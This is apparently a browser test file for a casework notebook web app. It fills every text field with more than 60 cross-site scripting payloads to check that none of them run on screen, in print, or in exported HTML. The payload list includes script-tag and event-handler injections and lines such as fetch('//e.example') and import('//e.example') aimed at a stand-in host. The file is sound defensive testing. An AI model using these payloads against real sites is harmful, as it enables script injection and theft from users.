// What is typed is never run. One notebook whose every text holds more than 60 pieces of script is looked at in every place
// that shows or makes something of it: before it is taken in, on the screen, in the boards' forms, on paper, in the HTML file.
// What a Word file is built of is looked at in app/handover/report/hostile_test.go.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, test } from 'node:test';
import { reader } from './lib/browser.mjs';
import { host } from './lib/host.mjs';
import { heading, started } from './lib/keeping.mjs';
import { bar, goes, press } from './lib/recording.mjs';
import { edition, site } from './lib/site.mjs';

let h, folder;
before(async () => { h = await host(site()); folder = mkdtempSync(join(tmpdir(), 'waymark-hostile-')); });
after(async () => { rmSync(folder, { recursive: true }); await h.stop(); });

const scripts = ['top.hit=1', 'alert(1)', "fetch('//e.example')", "location='//e.example'", "import('//e.example')"];
const payloads = scripts.flatMap((js) => [
  `<script>${js}</script>`, `<img src=x onerror=${js}>`, `<svg/onload=${js}>`, `"><script>${js}</script>`, `' autofocus onfocus='${js}`,
  `javascript:${js}`, `<iframe srcdoc='<script>${js}</script>'>`, `</td><b onclick=${js}>`, `<a href="javascript:${js}">x</a>`,
  `</style><script>${js}</script>`, `<!--><script>${js}</script>`, `<details open ontoggle=${js}>`, `</textarea><script>${js}</script>`,
]).concat('<link rel=stylesheet href=//e.example>', '<base href=//e.example>', '<meta http-equiv=refresh content=0;//e.example>', '{{.}}${top.hit=1}');
assert.ok(payloads.length >= 60);

// A short line holds some of them, a text all. lines is all of them as lines of at most 300 bytes.
const all = payloads.join('\n');
const lines = payloads.reduce((out, p) => (out.at(-1).length + p.length < 300 ? out.with(-1, out.at(-1) + p) : [...out, p]), ['']);

const stamp = (date, time) => ({ instant: Date.parse(`${date}T${time}Z`), date, time });
const kinds = ['arose', 'contact', 'meeting', 'stage started', 'resolved', 'unresolved', 'skipped', 'informed', 'copied', 'form sent', 'action agreed', 'action done', 'confirmed',
  'views', 'decision', 'agreed date', 'extended', 'missed', 'learning', 'debrief', 'note', 'answered', 'edition stayed', 'withdrawal'];

// settled waits until as many things are there as a moment ago: a form that was chosen takes the place of the one before.
async function settled(things) {
  for (let before = -1, now = await things.count(); now !== before; now = await things.count()) {
    before = now;
    await things.page().waitForTimeout(250);
  }
}

// entry is one of a kind with something in every part that is a text.
function entry(kind, number, text, line, more) {
  const party = { role: line, agency: line };
  return { kind, number, happened: { date: '2026-11-20', time: '10:00' }, written: stamp('2026-11-20', '10:05'), stage: 2, who: party, how: 'phone',
    concern: text, evidence: text, risk: text, said: text, asked: text, reply: text, owner: party, due: '2026-11-30', text, reason: text, form: line, why: text,
    ...(kind === 'answered' && { question: line, answer: 'yes' }), ...(kind === 'edition stayed' && { to: { board: line, pack: line } }), ...more };
}

function hostile() {
  let n = 0;
  const entries = kinds.map((kind) => entry(kind, ++n, all, lines[n % lines.length], kind === 'withdrawal' && { amends: 2 }));
  for (const kind of ['contact', 'informed', 'copied', 'form sent', 'action agreed', 'decision', 'answered', 'edition stayed']) {
    for (const line of lines) entries.push(entry(kind, ++n, line, line));
  }
  entries.push(entry('contact', ++n, all, lines[0], { amends: 3 }));
  const one = (id, code, under, line, entries) => ({ id: id.repeat(32), code, adult: line, keeper: { role: line, agency: line }, edition: under, created: stamp('2026-11-20', '09:00'), entries });
  return { waymark: 'notebook', version: 1, made: stamp('2026-11-24', '16:00'), from: { role: lines[0], agency: lines[1] }, cases: [
    one('1', 'A1', { board: 'swindon', pack: edition('swindon') }, lines[0], entries),
    ...boards.map((board, i) => one('cd'[i], `C${i + 1}`, { board, pack: edition(board) }, lines[i], entries)),
    ...lines.map((line, i) => one((i + 2).toString(16), `B${i + 1}`, { board: line, pack: line }, line, [entry('board changed', 1, line, line, { to: { board: line, pack: line } })])),
  ], identities: [{ case: '1'.repeat(32), people: lines.map((line) => ({ called: line, name: line, note: all })) }],
  drafts: [{ id: 'e'.repeat(32), began: stamp('2026-11-20', '10:00'), changed: stamp('2026-11-20', '10:00'), case: '1'.repeat(32), entry: unwritten(entry('contact', 0, all, lines[2])) },
    { id: 'f'.repeat(32), began: stamp('2026-11-20', '10:00'), changed: stamp('2026-11-20', '10:00'), case: '1'.repeat(32), card: true, entry: unwritten(entry('contact', 0, all, lines[3])) }] };
}

const boards = ['south-gloucestershire', 'northamptonshire'];

const unwritten = ({ number, written, why, ...rest }) => rest;

// watched is a browser in which nothing goes unnoticed: what ran, what was asked of elsewhere, what the policy of the page stopped.
async function watched(t) {
  const context = await reader({ worker: false, now: '2026-11-24T10:00', acceptDownloads: true });
  t.after(() => context.close());
  const noticed = [];
  await context.addInitScript(() => addEventListener('securitypolicyviolation', (e) => console.error(`CSP ${e.violatedDirective} ${e.blockedURI} ${e.sample}`)));
  await context.route((url) => url.hostname === 'e.example', (route) => route.abort());
  context.on('request', (r) => { if (!r.url().startsWith(h.origin) && !/^(blob|file|data):/.test(r.url())) noticed.push(`asked ${r.url()}`); });
  context.on('dialog', (d) => { noticed.push(`dialog ${d.message()}`); d.dismiss(); });
  context.on('console', (m) => { if (m.type() === 'error' && !/blocked by Playwright/.test(m.text())) noticed.push(m.text()); });
  context.on('weberror', (e) => noticed.push(e.error().message));
  return { context, noticed };
}

// looked waits until a page has settled, unfolds and shows all of it, and looks whether anything ran.
async function looked(page, where) {
  await page.evaluate(async () => {
    document.querySelectorAll('details').forEach((d) => { d.open = true; });
    document.querySelectorAll('main :is(a, [onclick])').forEach((a) => a.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })));
    await new Promise((done) => { requestAnimationFrame(() => requestAnimationFrame(done)); });
  });
  assert.equal(await page.evaluate(() => top.hit), undefined, `${where}: something ran`);
  assert.equal(await page.locator('main :is(script, iframe, base, meta, link, img, svg:not(.qr, .chart__bar), [onclick], [onerror], [href^="javascript" i])').count(), 0, `${where}: a tag came of what was typed`);
}

test('the watch notices a script that runs, a request and a stopped one', async (t) => {
  const { context, noticed } = await watched(t);
  const file = join(folder, 'control.html');
  writeFileSync(file, "<main><script>top.hit=1</script><script>fetch('http://e.example')</script><img src=x onerror=alert(1)></main>");
  const page = await context.newPage();
  await page.goto(pathToFileURL(file).href).catch(() => {});
  await page.waitForFunction(() => top.hit === 1);
  for (const want of ['dialog 1', 'asked http']) assert.ok(noticed.some((n) => n.startsWith(want)), `${want}: ${noticed}`);
  const ours = await context.newPage();
  await ours.goto(`${h.home}about/`);
  await ours.evaluate(() => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'top.hit=1' })); }).catch(() => {});
  assert.ok(noticed.some((n) => /^CSP |TrustedScript/.test(n)), `${noticed}`);
});

test(`${payloads.length} pieces of script in every text of a notebook: none runs, asks or is reported, anywhere`, async (t) => {
  const { context, noticed } = await watched(t);
  const page = await started(context, `${h.home}notebook/`);
  await press(page, 'This is not my device');
  await press(page, 'Begin, and store nothing');
  const looks = async (where) => { await looked(page, where); assert.deepEqual(noticed, [], where); };

  await bar(page, 'Open a file');
  const file = join(folder, 'hostile.json');
  writeFileSync(file, JSON.stringify(hostile()));
  await page.getByLabel('The file', { exact: true }).setInputFiles(file);
  await page.getByRole('heading', { name: 'What is in it' }).waitFor();
  await looks('before it is taken in');
  await press(page, 'Take in what is new');
  await page.getByText('All of the file is here.').waitFor();

  const id = '1'.repeat(32);
  await press(page, 'Open something else');
  await page.getByLabel('Or paste a reply').fill(`WAYMARK REPLY 1\nCase: A1\nDecision: ${all}\nReason: ${all}\nDate: 2026-11-20\nFrom: ${lines[0].replaceAll(',', ';')}, x\nEND OF REPLY\n`);
  await press(page, 'Read the reply');
  await page.getByRole('button', { name: 'Add it to the case as an entry' }).waitFor();
  await looks('a reply');

  for (const [path, of] of [['', ''], ['case/', id], ['case/', '2'.repeat(32)], ['names/', id], ['card/', id], ['log/', id], ['move/', id], ['lead/', ''], ['device/', '']]) {
    await goes(page, path, of);
    await page.waitForFunction(() => !document.querySelector('main [role=status]')?.textContent.startsWith('Opening'));
    await looks(`notebook/${path}`);
  }
  await goes(page, 'case/', id);
  for (const link of ['Correct', 'Go on with it']) {
    await page.locator('main a', { hasText: link }).first().evaluate((a) => a.click());
    await page.locator('main textarea').first().waitFor();
    await looks(link);
    await goes(page, 'case/', id);
  }

  await goes(page, 'hand/', id);
  const papers = { full: 5, need: 4, learning: 1 }; // brief, form, locked file, confirmation, days
  for (const [audience, many] of Object.entries(papers)) {
    await page.getByLabel('Who is it for?').selectOption(audience);
    await page.waitForFunction((many) => document.querySelectorAll('#hand-what option').length === many, many);
    const choices = await page.getByLabel('What do you need?').locator('option').evaluateAll((o) => o.map((one) => one.value));
    for (const what of choices.filter((c) => c !== 'locked' && c !== 'days')) await made(page, audience, what);
  }
  await page.getByLabel('Who is it for?').selectOption('full');
  await page.getByLabel('What do you need?').selectOption('locked');
  await page.getByLabel('How is it opened?').selectOption('key');
  await page.getByLabel('Their public key', { exact: true }).fill(all);
  await press(page, 'Make the locked file');
  await page.locator('#summary').waitFor();
  await looks('a key that is none');
  for (const [i, board] of boards.entries()) {
    await goes(page, 'hand/', 'cd'[i].repeat(32));
    await page.getByLabel('Who is it for?').selectOption('full');
    const form = await page.getByLabel('What do you need?').locator('option[value^="form-"]').getAttribute('value');
    await made(page, 'full', form, board);
  }
  assert.equal(await page.title().then((title) => title.includes('hit')), false);

  // made looks at a paper on the page, on paper and as a file.
  async function made(page, audience, what, board = 'swindon') {
    const where = `${board}, ${audience}: ${what}`;
    await page.getByLabel('What do you need?').selectOption(what);
    const blanks = page.locator('main details .field :is(input, textarea)');
    await settled(blanks);
    for (const blank of await blanks.all()) await blank.fill(lines[1]);
    if (audience === 'learning') await page.getByLabel('Lessons, in words for everybody').fill(all);
    if (await page.getByLabel('Put in the names from the names sheet').count()) await page.getByLabel('Put in the names from the names sheet').check();
    await page.locator('h1').click();
    await looks(where);
    await page.emulateMedia({ media: 'print' });
    await looks(`${where}, printed`);
    const printed = execFileSync('pdftotext', ['-', '-'], { input: await page.pdf({ preferCSSPageSize: true }), encoding: 'utf8' }).replace(/\s+/g, '');
    assert.ok(printed.includes('<script>top.hit=1</script>'), `${where}: on paper it is there to be read`);
    await page.emulateMedia({ media: null });
    await press(page, 'Web page, no script');
    const [download] = await Promise.all([page.waitForEvent('download'), press(page, 'Save it')]);
    const file = join(folder, 'made.html');
    await download.saveAs(file);
    const own = await context.newPage();
    await own.goto(pathToFileURL(file).href);
    assert.equal(await own.evaluate(() => top.hit), undefined);
    assert.ok((await own.locator('body').innerText()).includes('<script>top.hit=1</script>'), `${where}: in the file it is there to be read`);
    await own.close();
    assert.deepEqual(noticed, [], `${where}, as a file`);
    await press(page, 'Make another');
  }
});
